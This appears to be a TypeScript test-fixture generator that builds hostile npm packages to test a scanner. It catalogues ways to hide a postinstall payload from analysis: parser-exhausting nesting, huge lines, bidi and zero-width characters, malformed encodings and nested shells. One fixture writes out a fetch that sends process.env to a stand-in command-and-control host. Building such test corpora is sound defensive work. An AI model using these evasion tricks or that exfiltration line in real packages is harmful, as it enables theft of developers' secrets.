import { type HostileKind, kind } from './kind.ts';
import { hooked, imported, manifest, numbered, pack, STEAL, STEAL_SHELL } from './payload.ts';

const MIB = 2 ** 20;

/** Nested so that 12 kB exhaust the stack of a parser that recurses. */
function nested(open: string, close: string, chars = 12_000): string {
  const depth = Math.floor(chars / (open.length + close.length));
  return `${open.repeat(depth)}1${close.repeat(depth)}`;
}

function deep(id: string, what: string, text: string, file = 'setup.js'): HostileKind {
  return kind(id, what, () =>
    pack({
      'package.json': manifest({ scripts: { postinstall: `node ${file}` } }),
      [file]: `${text};\n${STEAL}`,
    }).build(),
  );
}

export const SOURCE_KINDS: readonly HostileKind[] = [
  kind('long-line', 'a single line of 20 MB with the payload at its end', () =>
    hooked(`/*${'x'.repeat(20_000_000)}*/${STEAL}`),
  ),
  kind('long-line-code', 'a single line of 20 MB of code', () =>
    hooked(`${'a=b+c*(d-1);'.repeat(1_666_666)}${STEAL}`),
  ),
  kind('long-line-string', 'a single string of 20 MB', () =>
    hooked(`var s="${'QUJD'.repeat(5_000_000)}";${STEAL}`),
  ),
  kind('comments', '9 MB of comments around the payload', () => {
    const half = numbered(80_000, (i) => `// ${i} nothing to see in this line of a comment\n`);
    return hooked(half + half + STEAL + half);
  }),
  kind('line-breaks', '10,000,000 line breaks', () => hooked('\n'.repeat(10_000_000) + STEAL)),
  deep('nest-round', 'round brackets', nested('(', ')')),
  deep('nest-square', 'square brackets', nested('[', ']')),
  deep('nest-open', 'square brackets that never close', '['.repeat(12_000)),
  deep('nest-template', 'template literals', nested('`${', '}`')),
  deep('nest-arrow', 'arrow functions', `f=${'a=>'.repeat(3_000)}1`),
  deep('nest-function', 'functions', nested('(function(){', '})()')),
  deep('nest-block', 'blocks', nested('{', '}').replace('1', '')),
  deep('nest-object', 'object literals', `x=${nested('{a:', '}')}`),
  deep('nest-unary', 'operators in front', `x=${'!'.repeat(12_000)}1`),
  deep('nest-ternary', 'conditions', `x=${'a?b:'.repeat(3_000)}1`),
  deep('nest-else', 'else-if', `${'if(a);else '.repeat(20_000)};`),
  deep('nest-plus', 'a sum of 100,000 texts', `x=${"'a'+".repeat(100_000)}'a'`),
  deep('nest-member', 'a chain of 100,000 members', `x=a${'.b'.repeat(100_000)}`),
  deep('nest-optional', 'a chain of optional members', `x=a${'?.b'.repeat(50_000)}`),
  deep('nest-call', 'a chain of 50,000 calls', `x=a${'()'.repeat(50_000)}`),
  deep('nest-comma', '100,000 expressions in a row', `x=(${'a,'.repeat(100_000)}1)`),
  deep('nest-await', 'awaits', `(async()=>{${'await '.repeat(10_000)}1})()`),
  deep('nest-jsx', 'tags of JSX', nested('<a>', '</a>'), 'setup.jsx'),
  deep(
    'nest-type',
    'types of TypeScript',
    `let x: ${nested('Array<', '>').replace('1', 'string')}`,
    'setup.ts',
  ),
  deep('nest-type-round', 'brackets in TypeScript', nested('(', ')', 60_000), 'setup.ts'),
  deep('nest-regex', 'a regular expression', `x=/${nested('(', ')')}/`),
  kind('nest-json', 'package.json nested 200,000 deep', () =>
    pack({
      'package.json': `{"name":"x","version":"1.0.0","x":${'['.repeat(200_000)}${']'.repeat(200_000)},"scripts":{"postinstall":"node setup.js"}}`,
      'setup.js': STEAL,
    }).build(),
  ),
  kind('bidi', 'text that is shown in another order than it runs in', () =>
    hooked(`/*\u202e } \u2066if (x)\u2069 \u2066 begin */\n${STEAL}/* end \u202e { \u2066*/\n`),
  ),
  kind('zero-width', 'names with joiners and escapes', () =>
    hooked(
      `var pr\u200docess = globalThis['pro' + 'cess'];\nf\\u0065tch('https://c2.weir.test', { method: 'POST', body: JSON.stringify(pr\u200docess.env) });\n`,
    ),
  ),
  kind('invalid-utf8', 'bytes that are no UTF-8 between all statements', () =>
    hooked(
      Buffer.concat([
        Buffer.from('/*'),
        Buffer.alloc(1000, 0xff),
        Buffer.from(`*/${STEAL}//`),
        Buffer.from([0xc0, 0xaf]),
      ]),
    ),
  ),
  kind('utf16', 'UTF-16 with a byte order mark', () =>
    hooked(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(STEAL, 'utf16le')])),
  ),
  kind('utf16-long', 'UTF-16 over the size that is parsed', () =>
    hooked(
      Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        Buffer.from(`//${'x'.repeat(5 * MIB)}\n${STEAL}`, 'utf16le'),
      ]),
    ),
  ),
  kind('overlong', 'slashes and quotes in overlong UTF-8 around the payload', () =>
    hooked(
      Buffer.concat([
        Buffer.from('/* '),
        Buffer.from([0xc0, 0xaf, 0xe0, 0x80, 0xa7]),
        Buffer.from(` */ ${STEAL}`),
      ]),
    ),
  ),
  kind('nul', 'NULs in code and in names', () =>
    pack({ 'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }) })
      .member({ path: Buffer.from('package/setup.js\0.png') }, `\0\0${STEAL}`)
      .build(),
  ),
  kind('surrogates', 'halves of characters in names, texts and commands', () =>
    pack({
      'package.json': `{"name":"\\ud800","version":"1.0.0","scripts":{"postinstall":"node setup.js \\udfff && ${STEAL_SHELL}"}}`,
      'setup.js': `var s = '\\ud800'.repeat(1000) + '\\udc00';\n${STEAL}`,
    }).build(),
  ),
  kind('shell-decoys', 'a shell file with the payload behind 600 commands', () =>
    pack({
      'package.json': manifest({ scripts: { postinstall: 'sh setup.sh' } }),
      'setup.sh': `${numbered(600, (i) => `echo step ${i}\n`)}${STEAL_SHELL}\n`,
    }).build(),
  ),
  kind('shell-long', 'a shell file of 300 kB with the payload at its end', () =>
    pack({
      'package.json': manifest({ scripts: { postinstall: 'sh setup.sh' } }),
      'setup.sh': `${numbered(12_000, (i) => `# note ${i} says nothing\n`)}${STEAL_SHELL}\n`,
    }).build(),
  ),
  kind('shell-substitutions', 'a command of 10,000 substitutions in each other', () =>
    pack({
      'package.json': manifest({
        scripts: { postinstall: `echo ${'$('.repeat(10_000)}id${')'.repeat(10_000)}; ${STEAL_SHELL}` },
      }),
    }).build(),
  ),
  kind('shell-groups', 'a command of 10,000 groups in each other', () =>
    pack({
      'package.json': manifest({
        scripts: { postinstall: `${'( '.repeat(10_000)}${STEAL_SHELL}${' )'.repeat(10_000)}` },
      }),
    }).build(),
  ),
  kind('shell-in-shell', 'shells that start shells, twelve deep', () => {
    let command = STEAL_SHELL;
    for (let i = 0; i < 12; i++) command = `sh -c ${JSON.stringify(command)}`;
    return pack({ 'package.json': manifest({ scripts: { postinstall: command } }) }).build();
  }),
  kind('imported-late', 'the payload in the last of 6,000 files', () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 6000; i++) files[`f${i}.js`] = `require('./f${i + 1}');\n`;
    files['f6000.js'] = STEAL;
    return imported(`require('./f0');\n`, files);
  }),
];
